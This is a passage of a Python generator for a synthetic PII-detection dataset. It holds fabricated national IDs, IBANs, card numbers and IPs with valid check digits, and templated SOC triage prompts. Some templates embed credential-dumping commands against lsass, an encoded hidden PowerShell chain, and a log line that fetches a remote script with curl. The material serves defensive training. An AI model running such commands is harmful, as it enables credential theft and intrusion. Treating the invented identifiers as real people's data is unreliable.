    "1983-01-26", "1971-06-11", "1999-10-02", "1946-04-04", "1990-08-17", "1986-02-28", "2004-05-15",
    "1975-12-01", "1968-07-23", "1993-09-09", "1981-04-30", "1959-11-12", "2000-01-06", "1973-03-27",
    "1995-06-18", "1962-10-21", "1989-12-25", "1977-08-05", "1950-02-14", "1984-11-29", "1998-04-11",
]

# National IDs with valid check digits (worked out once, typed in) -------------------------------
ID_SRC = [
    ("pesel", "84071904560", "pl:Katarzyna Wilk", "1984-07-19"),
    ("pesel", "79110218371", "pl:Paweł Grabowski", "1979-11-02"),
    ("pesel", "01232877244", "pl:Zofia Krawczyk", "2001-03-28"),
    ("pesel", "95050904121", "pl:Ewelina Sowińska", "1995-05-09"),
    ("pesel", "88082113953", "pl:Marcin Lewandowski", "1988-08-21"),
    ("pnr", "910412-3824", "sv:Elin Bergström", "1991-04-12"),
    ("pnr", "761005-4913", "sv:Johan Lindgren", "1976-10-05"),
    ("pnr", "030127-6044", "sv:Saga Nyström", "2003-01-27"),
    ("pnr", "690830-1572", "sv:Oskar Holm", "1969-08-30"),
    ("fnr", "14028547561", "no:Sindre Haugen", "1985-02-14"),
    ("fnr", "03099221851", "no:Ingvild Bakke", "1992-09-03"),
    ("cpr", "120690-1868", "da:Mette Frederiksen", "1990-06-12"),
    ("cpr", "080364-2303", "da:Søren Østergaard", "1964-03-08"),
    ("cpr", "011299-3088", "da:Freja Dahl", "1999-12-01"),
    ("hetu", "170589-248Y", "fi:Aino Mäkinen", "1989-05-17"),
    ("hetu", "031272-517V", "fi:Juha Lehtonen", "1972-12-03"),
    ("hetu", "250802A362S", "fi:Veera Salo", "2002-08-25"),
    ("tckn", "34517289054", "tr:Elif Kaya", "1991-02-17"),
    ("tckn", "21846035728", "tr:Burak Yılmaz", "1985-07-09"),
    ("tckn", "59231846086", "tr:Zeynep Arslan", "1998-11-23"),
    ("tckn", "47602591352", "tr:Emre Doğan", "1979-04-02"),
    ("tckn", "10738426584", "tr:Ayşegül Kılıç", "1966-09-14"),
    ("cpf", "418.293.765-19", "pt:Mariana Albuquerque Santos", "1990-10-03"),
    ("cpf", "072.845.316-90", "pt:Rodrigo Nascimento", "1982-05-21"),
    ("cpf", "853.120.947-14", "pt:Taís Oliveira Bezerra", "1996-01-12"),
    ("cpf", "236.574.018-90", "pt:Francisco das Chagas Lima", "1958-08-30"),
    ("cnp", "2900214123456", "ro:Andreea Popescu", "1990-02-14"),
    ("cnp", "1831007260713", "ro:Mihai Dumitrescu", "1983-10-07"),
    ("cnp", "2750623221583", "ro:Cristina Lungu", "1975-06-23"),
    ("bsn", "284193677", "nl:Sanne Bakker", "1993-05-27"),
    ("bsn", "173205847", "nl:Joost van den Heuvel", "1970-12-08"),
    ("bsn", "604917235", "nl:Fatima El Idrissi", "1988-04-16"),
    ("nir", "2 87 03 75 114 062 72", "fr:Aurélie Gauthier", "1987-03-19"),
    ("nir", "1 69 11 69 123 318 89", "fr:Thibault Marchand", "1969-11-04"),
    ("nir", "2 94 06 13 055 207 69", "fr:Nadia Benali", "1994-06-25"),
    ("nir", "1 81 01 99 326 014 20", "fr:Mamadou Koné", "1981-01-13"),
    ("dni", "72148935M", "es:Iker Zubizarreta", "1986-10-30"),
    ("dni", "20574183Q", "es:María José Pastor Llorente", "1962-02-05"),
    ("dni", "48219067G", "es:Rocío Núñez Villalba", "1994-08-19"),
    ("nie", "X4827153M", "es:Guadalupe Ramírez Ochoa", "1989-07-01"),
    ("nie", "Y2093817A", "es:Xiomara Lugo Peña", "1992-03-08"),
    ("cf", "LRSCHR86P63F205D", "it:Chiara Lo Russo", "1986-09-23"),
    ("cf", "CPNGNR71B11F839U", "it:Gennaro Capuano", "1971-02-11"),
    ("cf", "DLLFNC93T44H501Q", "it:Francesca Dell'Aquila", "1993-12-04"),
    ("cf", "FRRMTT90H30L219H", "it:Matteo Ferraro", "1990-06-30"),
    ("cf", "PLLGNN58D57G273C", "it:Giovanna Pellegrino", "1958-04-17"),
    ("nif_pt", "238415074", "pt:Inês Figueiredo", "1991-11-02"),
    ("nif_pt", "196274303", "pt:Gonçalo Marques", "1974-06-14"),
    ("il_id", "314827593", "he:נועה אברהמי", "1995-03-03"),
    ("il_id", "206391484", "he:איתי שפירא", "1984-09-27"),
    ("il_id", "039274162", "he:מיכל בן דוד", "1978-01-15"),
    ("aadhaar", "5821 4937 0611", "hi:सुनीता यादव", "1987-08-15"),
    ("aadhaar", "7340 2851 9643", "hi:अमित त्रिपाठी", "1993-01-26"),
    ("aadhaar", "3916 7208 4528", "en:Priya Raghunathan", "1990-04-14"),
    ("cn_ric", "330782199003220464", "zh:丽娟 王", "1990-03-22"),
    ("cn_ric", "510181199109081137", "zh:志强 陈", "1991-09-08"),
    ("cn_ric", "440305199212302280", "zh:晓燕 刘", "1992-12-30"),
    ("kr_rrn", "900415-2145325", "ko:서연 김", "1990-04-15"),
    ("kr_rrn", "871102-1084178", "ko:준호 이", "1987-11-02"),
    ("kr_rrn", "010619-4230192", "ko:하늘 정", "2001-06-19"),
    ("za_id", "8605125438083", "en:Sipho Dlamini", "1986-05-12"),
    ("za_id", "9310270271087", "en:Lerato Molefe", "1993-10-27"),
    ("amka", "09078203149", "el:Γιώργος Παπαδάκης", "1982-07-09"),
    ("amka", "30019528667", "el:Ελένη Κωνσταντινίδου", "1995-01-30"),
    ("cz_rc", "886005/2146", "cs:Petra Dvořáková", "1988-10-05"),
    ("cz_rc", "750321/0946", "cs:Jakub Novotný", "1975-03-21"),
    ("taj", "038 417 294", "hu:Anna Kiss", "1983-06-02"),
    ("taj", "126 048 357", "hu:Gergely Tóth", "1977-10-19"),
    ("mynumber", "4018 2736 5925", "ja:翔太 高橋", "1989-05-08"),
    ("th_id", "1509900412731", "th:สมชาย ใจดี", "1986-12-05"),
    ("th_id", "3580100226141", "th:สุภาพร ศรีสุข", "1972-03-16"),
    ("ca_sin", "274 813 963", "en:Chloe Tremblay", "1994-02-09"),
    ("ssn", "412-58-7731", "en:Keisha Thornton", "1985-09-17", "US_SSN"),
    ("ssn", "527-19-3384", "en:Marisol Quintanilla", "1991-12-02", "US_SSN"),
    ("ssn", "618-40-2297", "en:DeShawn Whitaker", "1979-06-28", "US_SSN"),
    ("ssn", "388-02-6154", "en:Grace Wolf", "1968-01-20", "US_SSN"),
    ("nino", "JT 48 27 61 C", "en:Rose Baker", "1957-10-11"),
    ("nino", "NM 31 74 08 B", "en:Tamsin Penhaligon", "1990-07-04"),
    ("nino", "PH 62 09 15 D", "en:Rafiq Chowdhury", "1982-02-22"),
    ("passport_ng", "A07931842", "en:Tunde Bakare", "1984-03-30"),
    ("passport_gb", "548213907", "en:Ewan MacAskill", "1975-11-15"),
    ("pan", "BKRPY4417L", "hi:सुनीता यादव", "1987-08-15"),
]
IDS = [IdRec(*row) for row in ID_SRC]
PERSON_DOB = {r.person_key: r.dob_iso for r in IDS}
for _rec in IDS:
    _rec.p = PERSON_BY_KEY[_rec.person_key]

IBANS = {
    "de": ["DE07 5001 0517 5407 3249 18", "DE38 7655 0000 0008 2147 36", "DE13 4306 0967 1182 0453 00"],
    "fr": ["FR76 3000 4008 2300 0104 7382 069", "FR76 1680 7000 4231 4286 0519 042"],
    "es": ["ES91 2100 0418 4502 0005 1332", "ES79 0049 1827 8229 1047 3851"],
    "nl": ["NL95 RABO 4171 6430 07", "NL41 ABNA 3184 9276 01"],
    "gb": ["GB49 BARC 2004 1543 8277 16", "GB85 MIDL 4005 1571 2938 40"],
    "ie": ["IE76 BOFI 9012 5437 2819 46", "IE11 AIBK 9334 1862 0574 13"],
    "it": ["IT92 Y030 6909 6061 0000 0063 172", "IT37 D020 0811 7700 0010 4827 135"],
    "pl": ["PL31 1020 1026 0000 4602 0471 8823", "PL51 1090 1014 4000 0712 1981 2874"],
    "be": ["BE78 0634 8172 6586", "BE18 0017 2945 8365"],
    "pt": ["PT50 0035 0218 0003 8472 9156 0"],
    "at": ["AT80 2011 1828 4736 2910"],
    "ch": ["CH13 0023 5482 9173 8295 0"],
    "tr": ["TR91 0006 2000 0419 0012 8477 36"],
    "ro": ["RO33 BTRL RONC RT08 4729 1735", "RO26 INGB 0000 9999 0482 7163", "RO12 RNCB 0082 0449 1735 0001"],
    "se": ["SE54 5000 0000 0589 3128 4720"],
    "lt": ["LT07 7300 0101 4827 3645", "LT97 7044 0901 0048 2736", "LT77 3250 0246 1739 0548"],
    "gr": ["GR87 0110 1250 0000 0482 1937 620"],
    "sa": ["SA39 8000 0584 2193 7001 6823"],
    "ae": ["AE57 0331 0482 7365 9104 827"],
}

CARDS = {
    "visa": ["4921 8304 1176 2055", "4024 0071 8833 9427", "4506 1439 2287 5512", "4556 7302 1948 3619",
             "4917 4826 0319 5771"],
    "mc": ["5412 7534 9921 0875", "5355 2781 4406 3197", "2223 0315 7749 6203", "5168 3204 7719 2040"],
    "amex": ["3761 520984 33712", "3412 985770 26485", "3794 1028 6637 2152"],
    "disc": ["6011 4427 9018 3352"],
    "jcb": ["3566 0021 4418 7396"],
    "cup": ["6250 9460 0001 8836"],
}

IPS = {
    "pub": ["81.134.22.197", "86.29.140.63", "95.91.212.8", "176.58.99.201", "102.89.32.18", "41.203.72.9",
            "197.210.54.31", "177.37.146.220", "189.6.24.155", "49.36.121.77", "117.198.40.12", "222.252.19.74",
            "113.161.88.203", "78.161.42.19", "88.230.17.146", "31.13.192.44", "62.4.55.180", "79.116.203.61",
            "91.64.118.23", "151.40.77.135", "83.24.150.9", "37.120.211.88", "121.134.58.203", "58.37.114.16"],
    "tor": ["185.220.101.47", "45.146.164.110", "193.189.100.204", "104.244.76.13"],
    "lan": ["10.14.3.88", "10.20.7.41", "172.16.40.23", "192.168.1.47", "10.88.12.130", "172.20.5.17"],
    "v6": ["2a02:c7c:58d1:3200:8d4e:1f2a:9b3c:71e0", "2001:818:e2c1:4a00:5d2:9e1f:3b7a:c08",
           "2a01:e0a:2c4:9f10:bd33:12fe:4a80:6b21"],
}

# Workplace domains (invented) and webmail providers ------------------------------------------
CORP = ["kestrelbank.co.uk", "harbourline.com", "northmere-group.com", "vireo-payments.io", "altamira-seguros.es",
        "brightwell-retail.com", "quaymark.ie", "lindholm-finans.se", "bankhaus-ostrau.de", "tessera-pay.fr"]
WEBMAIL = {
    "en": ["gmail.com", "outlook.com", "yahoo.co.uk", "icloud.com", "proton.me", "btinternet.com", "hotmail.com"],
    "de": ["web.de", "gmx.de", "t-online.de"], "fr": ["orange.fr", "laposte.net", "free.fr"],
    "es": ["hotmail.es", "telefonica.net"], "pt": ["uol.com.br", "terra.com.br", "sapo.pt"],
    "it": ["libero.it", "virgilio.it"], "nl": ["ziggo.nl", "kpnmail.nl"], "pl": ["wp.pl", "onet.pl"],
    "tr": ["mynet.com", "hotmail.com.tr"], "ru": ["yandex.ru", "mail.ru"], "uk": ["ukr.net", "i.ua"],
    "el": ["otenet.gr"], "ar": ["gmail.com"], "he": ["walla.co.il"], "zh": ["qq.com", "163.com"],
    "ja": ["docomo.ne.jp", "yahoo.co.jp"], "ko": ["naver.com", "daum.net"], "hi": ["rediffmail.com"],
    "th": ["hotmail.co.th"], "vi": ["gmail.com"], "id": ["yahoo.co.id"], "sv": ["telia.com"],
    "no": ["online.no"], "da": ["mail.dk"], "fi": ["elisanet.fi"], "cs": ["seznam.cz"], "ro": ["yahoo.ro"],
    "hu": ["freemail.hu"], "tl": ["yahoo.com.ph"],
}


# ---------------------------------------------------------------------------------------------
# Drawing values: least-used first, ties broken by the seeded RNG, never twice in one row
# ---------------------------------------------------------------------------------------------

class Ctx:
    def __init__(self, rng: random.Random, use: Counter, i: int):
        self.rng, self.use, self.i = rng, use, i
        self.seen: set[str] = set()

    def _draw(self, kind: str, items: list, key):
        cands = [x for x in items if key(x) not in self.seen]
        lo = min(self.use[(kind, key(x))] for x in cands)
        best = [x for x in cands if self.use[(kind, key(x))] == lo]
        x = self.rng.choice(best)
        self.use[(kind, key(x))] += 1
        self.seen.add(key(x))
        return x

    def pick(self, seq):
        return self.rng.choice(list(seq))

    def alt(self, seq):
        """The row's own variant: row i of a template takes item i."""
        seq = list(seq)
        return seq[self.i % len(seq)]

    def n(self, lo: int, hi: int) -> int:
        return self.rng.randint(lo, hi)

    def person(self, pool: str = "en", sex: str | None = None, where=None) -> Person:
        items = [p for p in PEOPLE[pool] if (sex is None or p.sex == sex) and (where is None or where(p))]
        p = self._draw("person", items, lambda p: p.key)
        p.digits = str(self.rng.randint(2, 98))
        return p

    def people(self, k: int, pool: str = "en") -> list[Person]:
        return [self.person(pool) for _ in range(k)]

    def idrec(self, *kinds: str) -> IdRec:
        items = [r for r in IDS if r.kind in kinds and r.person_key not in self.seen]
        rec = self._draw("id", items, lambda r: r.value)
        self.seen.add(rec.person_key)
        self.use[("person", rec.person_key)] += 1
        assert rec.p is not None
        rec.p.digits = str(self.rng.randint(2, 98))
        return rec

    def addr(self, cc: str) -> Address:
        return self._draw("addr", ADDRS[cc], lambda a: a.key)

    def phone(self, cc: str) -> str:
        return m("PHONE_NUMBER", self._draw("phone", PHONES[cc], lambda s: s))

    def dob(self, style: str) -> str:
        return m("DATE_OF_BIRTH", fdate(self._draw("dob", DOBS, lambda s: s), style))

    def pdob(self, p: Person, style: str) -> str:
        """Date of birth of `p`: the one their ID encodes if they have one, else a drawn one."""
        if p.key in PERSON_DOB:
            return m("DATE_OF_BIRTH", fdate(PERSON_DOB[p.key], style))
        return self.dob(style)

    def iban(self, cc: str) -> str:
        return m("IBAN_CODE", self._draw("iban", IBANS[cc], lambda s: s))

    def card(self, *brands: str) -> str:
        items = [x for b in (brands or tuple(CARDS)) for x in CARDS[b]]
        return m("CREDIT_CARD", self._draw("card", items, lambda s: s))

    def ip(self, kind: str = "pub") -> str:
        return m("IP_ADDRESS", self._draw("ip", IPS[kind], lambda s: s))

    def web(self, lang: str = "en") -> str:
        return self.pick(WEBMAIL[lang])

    def corp(self) -> str:
        return self.pick(CORP)


def dobm(rec: IdRec, style: str) -> str:
    """The date of birth an ID record encodes, marked and written in `style`."""
    return m("DATE_OF_BIRTH", fdate(rec.dob_iso, style))


def loc(value: str) -> str:
    return m("LOCATION", value)


def cap_local(p: Person, style: str = "g.f") -> str:
    """Plain `Given.Family` with capitals kept, for UPNs typed with capitals."""
    return MARK.sub(lambda mo: mo.group(2), p.H(style))


class Tpl:
    def __init__(self, cls: str, name: str, lang: str, n: int, case, fn):
        self.cls, self.name, self.lang, self.n, self.case, self.fn = cls, name, lang, n, case, fn

    def case_of(self, i: int) -> str | None:
        if isinstance(self.case, tuple):
            return self.case[i]
        return self.case


TEMPLATES: list[Tpl] = []


def T(cls: str, name: str, lang: str, n: int = 3, case=None):
    """Register a template: `fn(c)` returns marked text for row `c.i`."""
    def deco(fn):
        TEMPLATES.append(Tpl(cls, name, lang, n, case, fn))
        return fn
    return deco


SOC = "personal_soc_triage"
PHI = "personal_phishing_abuse"
ATO = "personal_account_takeover"
FRD = "personal_fraud_disputes"
ACC = "personal_access_identity"
KYC = "personal_kyc_compliance"
CTI = "clean_threat_intel"
CTL = "clean_tools_detection"
CTP = "clean_templates"
CPO = "clean_policy_questions"
CHI = "clean_people_history"


# =============================================================================================
# personal_soc_triage
# =============================================================================================

@T(SOC, "edr_triage_note", "en", 2)
def _edr_triage_note(c: Ctx) -> str:
    p, a = c.person(), c.person()
    what = c.pick([
        "Mimikatz-like access to lsass.exe (sekurlsa::logonpasswords pattern)",
        "a renamed procdump64.exe writing an lsass dump to C:\\Users\\Public\\",
        "Rubeus.exe asktgt with /enctype:rc4",
        "rundll32 comsvcs.dll MiniDump against lsass",
    ])
    dept = c.pick(["Accounts Payable", "Treasury", "HR Ops", "Claims", "Merchant Onboarding"])
    return f"""Can you turn my notes into a proper triage summary for the ticket? Keep it under 150 words.

alert: {what}, flagged by Defender for Endpoint on LT-{p.H("FG")} at 02:14 UTC
user logged on: NORTHMERE\\{p.h("gf")} ({p.full}, {dept})
parent chain: WINWORD.EXE -> cmd.exe -> powershell.exe -nop -w hidden -enc ...
host IP {c.ip("lan")}, last VPN session from {c.ip("pub")}
device isolated 02:31, password reset + krbtgt review pending, {p.g} is on leave until Monday
-- {a.full}, SOC L2"""


@T(SOC, "auth_log_bruteforce", "en", 2)
def _auth_log_bruteforce(c: Ctx) -> str:
    p = c.person()
    h = p.h(c.pick(["gf", "g.f", "f.g", "gfd"]))
    src = c.ip("tor")
    day = c.pick(["Mar 11", "Jun 2", "Sep 27", "Nov 5"])
    host = c.pick(["bastion-02", "jump-eu1", "sftp-prod", "gw-ldn-03"])
    return f"""Is this a brute force that ended in a successful login? Excerpt from /var/log/auth.log on {host}:

{day} 03:12:44 {host} sshd[21877]: Failed password for invalid user admin from {src} port 51234 ssh2
{day} 03:12:47 {host} sshd[21877]: Failed password for {h} from {src} port 51240 ssh2
{day} 03:12:51 {host} sshd[21881]: Failed password for {h} from {src} port 51266 ssh2
{day} 03:13:02 {host} sshd[21890]: Accepted password for {h} from {src} port 51302 ssh2
{day} 03:13:02 {host} sshd[21890]: pam_unix(sshd:session): session opened for user {h}(uid=1043) by (uid=0)
{day} 03:15:19 {host} sudo: {h} : TTY=pts/1 ; PWD=/home/{h} ; USER=root ; COMMAND=/usr/bin/curl -s http://45.x/a.sh

The account belongs to {p.full}, who says they were asleep. What else should I pull?"""


@T(SOC, "signin_json", "en", 2)
def _signin_json(c: Ctx) -> str:
    p, mgr = c.person(), c.person()
    city, cc = c.alt([("Lagos", "NG"), ("Bucharest", "RO"), ("Ho Chi Minh City", "VN"), ("São Paulo", "BR"),
                       ("Amsterdam", "NL"), ("Kyiv", "UA")])
    corp = c.corp()
    return f"""This sign-in triggered the impossible-travel alert. Which fields should go in the escalation to {mgr.g}?

{{
  "createdDateTime": "2025-02-03T07:41:19Z",
  "userDisplayName": "{p.full}",
  "userPrincipalName": "{p.mail(corp)}",
  "ipAddress": "{c.ip("pub")}",
  "clientAppUsed": "Browser",
  "location": {{"city": "{loc(city)}", "countryOrRegion": "{cc}"}},
  "status": {{"errorCode": 0}},
  "mfaDetail": {{"authMethod": "Mobile app notification"}}
}}

The previous sign-in, 40 minutes earlier, came from {c.ip("pub")} at the office."""


@T(SOC, "cef_proxy_block", "en", 1)
def _cef_proxy_block(c: Ctx) -> str:
    p = c.person()
    corp = c.corp()
    dom = c.pick(["login-micros0ft-secure.com", "docusign-envelope-review.net", "sharepoint-filedrop.co"])
    return f"""Parse this CEF event into a field | value table and tell me what the proxy actually blocked:

CEF:0|Zscaler|NSSWeblog|6.1|Blocked|URL Category Block|7|rt=Jan 14 2025 09:22:51 suser={p.mail(corp)} \
src={c.ip("lan")} dhost={dom} request=https://{dom}/owa/auth.html cs1Label=dept cs1=Finance \
cs2Label=urlcat cs2=Phishing act=Blocked reason=Malicious URL

Also tell me if I should ping {p.g} or their line manager first."""


@T(SOC, "vpn_kv_travel", "en", 2)
def _vpn_kv_travel(c: Ctx) -> str:
    p = c.person()
    a = c.addr(c.pick(["gb", "ie", "au", "nz"]))
    h = p.h("g.f")
    return f"""Two GlobalProtect logins nine minutes apart for the same account. Impossible travel or just a VPN exit?

time=2025-04-02T06:03:11Z event=auth_success user={h} src_ip={c.ip("pub")} portal=gp-eu mfa=push_approved
time=2025-04-02T06:12:40Z event=auth_success user={h} src_ip={c.ip("tor")} portal=gp-us mfa=none client=linux

HR says {p.full} works from home in {a.town} and has no travel booked."""


@T(SOC, "incident_timeline", "en", 2)
def _incident_timeline(c: Ctx) -> str:
    a, b, x, y, z = c.people(5)
    lure = c.pick(['"DocuSign: Q3 bonus letter"', '"Voicemail from +44..."', '"Invoice 88213 overdue"'])
    return f"""Tidy this timeline for the post-incident review. Keep it a table and convert the times to UTC.

| time (CET) | who | what |
|---|---|---|
| 08:02 | {a.full} | reported the {lure} e-mail |
| 08:15 | {b.full} (SOC) | found 14 recipients, 3 clicked |
| 08:40 | {b.g} | reset passwords for {x.h("g.f")} and {y.h("g.f")} |
| 09:05 | {z.full} | revoked sessions in Entra, blocked the sender domain |
| 10:30 | {a.g} | confirmed no MFA prompts were approved |"""


@T(SOC, "splunk_export_csv", "en", 1)
def _splunk_export_csv(c: Ctx) -> str:
    ps = c.people(4)
    return f"""Summarise this Splunk export for the shift handover. Who looks compromised?

user,src_ip,failed,success,first_seen
{ps[0].h("gf")},{c.ip("pub")},43,1,2025-05-18 22:41
{ps[1].h("g.f")},{c.ip("lan")},2,5,2025-05-18 07:58
{ps[2].h("fg")},{c.ip("pub")},61,0,2025-05-18 23:02
{ps[3].h("gfd")},{c.ip("tor")},19,1,2025-05-19 00:13"""


@T(SOC, "win_4625_event", "en", 1)
def _win_4625_event(c: Ctx) -> str:
    p, q = c.person(), c.person()
    return f"""Why would these keep coming from the same workstation overnight? Event 4625, about 300 of them:

An account failed to log on.
Logon Type:			3
Account For Which Logon Failed:
	Account Name:		{p.H("gf")}
	Account Domain:		HARBOURLINE
Failure Information:
	Failure Reason:		Unknown user name or bad password.
	Status:			0xC000006D
Network Information:
	Workstation Name:	WS-{q.H("FG")}
	Source Network Address:	{c.ip("lan")}
	Source Port:		49822

The account is {p.full}'s (Treasury); the workstation is assigned to {q.full}."""


@T(SOC, "kql_user_filter", "en", 1)
def _kql_user_filter(c: Ctx) -> str:
    p = c.person()
    corp = c.corp()
    upn = m("EMAIL_ADDRESS", f"{cap_local(p)}@{corp}")
    return f"""This KQL returns nothing, yet {p.g} definitely signed in yesterday. What's wrong with it?

SigninLogs
| where TimeGenerated > ago(2d)
| where UserPrincipalName == "{upn}"
| where IPAddress == "{c.ip("pub")}"
| project TimeGenerated, AppDisplayName, ResultType, LocationDetails"""


@T(SOC, "analyst_chat_lower", "en", 3, case="lower")
def _analyst_chat_lower(c: Ctx) -> str:
    a, b = c.person(), c.person()
    p = c.person(sex="f")
    mgr = c.person()
    return f"""[09:14] {a.g}: morning, anyone looked at the okta alert for {p.h("g.f")}?
[09:15] {b.g}: yeah its {p.full} from payroll, push fatigue, 22 pushes between 2 and 3am
[09:15] {b.g}: last one approved from {c.ip("pub")}
[09:16] {a.g}: ugh. did you call her? number on workday is {c.phone(c.pick(["gb", "ie", "za", "ng"]))}
[09:18] {b.g}: voicemail. texted her manager {mgr.full}
[09:20] {a.g}: ok revoke sessions + reset, ill write it up
summarise this for the ticket pls"""


@T(SOC, "de_soc_ticket", "de", 1)
def _de_soc_ticket(c: Ctx) -> str:
    p, a = c.person("de"), c.person("de")
    return f"""Bitte formuliere daraus eine kurze Meldung an den Informationssicherheitsbeauftragten:

Ticket SEC-{c.n(4100, 4999)}: verdächtige Anmeldung
Benutzer: {p.full} ({p.h("g.f")}), Abteilung Kreditoren
Quell-IP: {c.ip("tor")}, laut GeoIP Niederlande
Zeitpunkt: {c.pick(["14.03.", "02.05.", "19.08."])} 03:47 Uhr
Gerät: unbekannt, Firefox 124 unter Linux
Maßnahmen: Konto gesperrt, Sitzungen widerrufen, Rückruf bei {"Frau" if p.sex == "f" else "Herrn"} {p.f} unter {c.phone("de")}
Bearbeiter: {a.full}"""


@T(SOC, "fr_alerte_edr", "fr", 2)
def _fr_alerte_edr(c: Ctx) -> str:
    p, a = c.person("fr"), c.person("fr")
    return f"""Peux-tu rédiger une synthèse pour le RSSI à partir de ces notes ?

- 07h52 : alerte CrowdStrike « Suspicious PowerShell » sur le poste PC-{p.H("FG")}
- utilisateur : {p.fam_first} ({p.mail("tessera-pay.fr")})
- adresse IP du poste : {c.ip("lan")}, sortie internet via {c.ip("pub")}
- {p.g} dit avoir ouvert une pièce jointe « facture_impayée.html »
- poste isolé à 08h10 par {a.full}, mot de passe réinitialisé
- à rappeler au {c.phone("fr")}"""


@T(SOC, "ja_incident_report", "ja", 1)
def _ja_incident_report(c: Ctx) -> str:
    a, p = c.person("ja"), c.person("ja")
    return f"""以下のインシデント報告を英語に翻訳してください。

発生日時：2025年5月12日 10:24
報告者：{a.full}（情報システム部）
対象者：{p.full}（経理課）
端末名：PC-{p.H("FG")}　IPアドレス：{c.ip("lan")}
概要：{p.f}さんが請求書を装ったメールの添付ファイル（.iso）を開封。EDRにより隔離済み。
連絡先：{c.phone("jp")}"""


@T(SOC, "ru_vpn_log", "ru", 1)
def _ru_vpn_log(c: Ctx) -> str:
    p, b = c.person("ru"), c.person("ru")
    h = p.h("gf")
    src = c.ip("pub")
    return f"""Помоги разобрать лог. Сотрудник {p.full} ({h}) говорит, что ночью не подключался:

Apr 20 02:11:07 vpn-gw01 ocserv[3312]: main[{h}]:{src}:41522 user logged in
Apr 20 02:11:09 vpn-gw01 ocserv[3312]: main[{h}]:{src}:41522 assigned IP {c.ip("lan")}
Apr 20 02:58:44 vpn-gw01 ocserv[3312]: main[{h}]:{src}:41522 user disconnected (rx: 2.1 GB)

Руководитель — {b.full}, тел. {c.phone("ru")}. Что писать в отчёте?"""


@T(SOC, "ptbr_workspace_alert", "pt", 2)
def _ptbr_workspace_alert(c: Ctx) -> str:
    p, a = c.person("pt"), c.person("pt")
    ext = m("EMAIL_ADDRESS", c.pick(["financeiro.pagamentos25@proton.me", "boletos.cobranca.rh@gmail.com"]))
    return f"""Me ajuda a escrever o resumo do incidente pro gestor? Curto, sem jargão.

Alerta: login suspeito no Google Workspace
Usuário: {p.full} <{p.mail("vireo-payments.io")}>
IP de origem: {c.ip("pub")} (VPN comercial, Holanda)
O que aconteceu: a conta criou uma regra que encaminha e-mails com "boleto" para {ext}
Ação: sessão encerrada, senha trocada, regra apagada
Analista: {a.full}"""


# =============================================================================================
# Building, checking, printing
# =============================================================================================

LANG_NAMES = {
    "en": "English", "de": "German", "fr": "French", "es": "Spanish", "pt": "Portuguese", "it": "Italian",
    "nl": "Dutch", "pl": "Polish", "tr": "Turkish", "ru": "Russian", "uk": "Ukrainian", "el": "Greek",
    "ar": "Arabic", "he": "Hebrew", "zh": "Chinese", "ja": "Japanese", "ko": "Korean", "hi": "Hindi",
    "th": "Thai", "vi": "Vietnamese", "id": "Indonesian", "sv": "Swedish", "no": "Norwegian", "da": "Danish",
    "fi": "Finnish", "cs": "Czech", "ro": "Romanian", "hu": "Hungarian", "tl": "Tagalog/Taglish",
}


def build_rows() -> tuple[list[dict], list[tuple[str, str | None]]]:
    """All rows, and for each its (language, case) for the statistics."""
    rng = random.Random(SEED)
    use: Counter = Counter()
    rows: list[dict] = []
    meta: list[tuple[str, str | None]] = []
    for t in TEMPLATES:
        for i in range(t.n):
            c = Ctx(rng, use, i)
            text, spans = unmark(t.fn(c), t.case_of(i))
            rows.append({
                "id": f"{SET}-{t.cls}-{t.name}-{i}", "text": text, "spans": spans, "source": SOURCE,
                "class": t.cls, "template": t.name, "locale": "",
            })
            meta.append((t.lang, t.case_of(i)))
    return rows, meta


def luhn_ok(digits: str) -> bool:
    total = 0
    for k, ch in enumerate(reversed(digits)):
        x = int(ch)
        if k % 2:
            x *= 2
            if x > 9:
                x -= 9
        total += x
    return total % 10 == 0


def iban_ok(value: str) -> bool:
    s = value.replace(" ", "").upper()
    s = s[4:] + s[:4]
    return int("".join(str(int(ch, 36)) for ch in s)) % 97 == 1


def id_ok(kind: str, value: str) -> bool:
    """Re-verify the check digits of a typed-in ID."""
    d = "".join(ch for ch in value if ch.isdigit())
    if kind == "pesel":
        w = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3]
        return (10 - sum(int(a) * b for a, b in zip(d, w)) % 10) % 10 == int(d[10])
    if kind in ("pnr", "za_id", "ca_sin", "amka"):
        return luhn_ok(d[-10:] if kind == "pnr" else d)
    if kind == "fnr":
        w1, w2 = [3, 7, 6, 1, 8, 9, 4, 5, 2, 1], [5, 4, 3, 2, 7, 6, 5, 4, 3, 2, 1]
        return sum(int(a) * b for a, b in zip(d, w1)) % 11 == 0 and sum(int(a) * b for a, b in zip(d, w2)) % 11 == 0
    if kind == "cpr":
        return sum(int(a) * b for a, b in zip(d, [4, 3, 2, 7, 6, 5, 4, 3, 2, 1])) % 11 == 0
    if kind == "hetu":
        return "0123456789ABCDEFHJKLMNPRSTUVWXY"[int(value[:6] + value[7:10]) % 31] == value[10]
    if kind == "tckn":
        x = [int(a) for a in d]
        return (sum(x[0:9:2]) * 7 - sum(x[1:8:2])) % 10 == x[9] and sum(x[:10]) % 10 == x[10]
    if kind == "cpf":
        x = [int(a) for a in d]
        r1 = sum(a * b for a, b in zip(x, range(10, 1, -1))) * 10 % 11 % 10
        r2 = sum(a * b for a, b in zip(x, range(11, 1, -1))) * 10 % 11 % 10
        return r1 == x[9] and r2 == x[10]
    if kind == "cnp":
        c = sum(int(a) * int(b) for a, b in zip(d, "279146358279")) % 11
        return (1 if c == 10 else c) == int(d[12])
    if kind == "bsn":
        return (sum(int(a) * b for a, b in zip(d, range(9, 1, -1))) - int(d[8])) % 11 == 0
    if kind == "nir":
        return 97 - int(d[:13]) % 97 == int(d[13:])
    if kind in ("dni", "nie"):
        num = value[:-1].replace("X", "0").replace("Y", "1").replace("Z", "2")
        return "TRWAGMYFPDXBNJZSQVHLCKE"[int(num) % 23] == value[-1]
    if kind == "cf":
        odd = dict(zip("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ",
                       [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3,
                        6, 8, 12, 14, 16, 10, 22, 25, 24, 23]))
        even = {ch: (int(ch) if ch.isdigit() else ord(ch) - 65) for ch in "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"}
        total = sum(odd[ch] if k % 2 == 0 else even[ch] for k, ch in enumerate(value[:15]))
        return chr(65 + total % 26) == value[15]
    if kind == "nif_pt":
        c = 11 - sum(int(a) * b for a, b in zip(d, range(9, 1, -1))) % 11
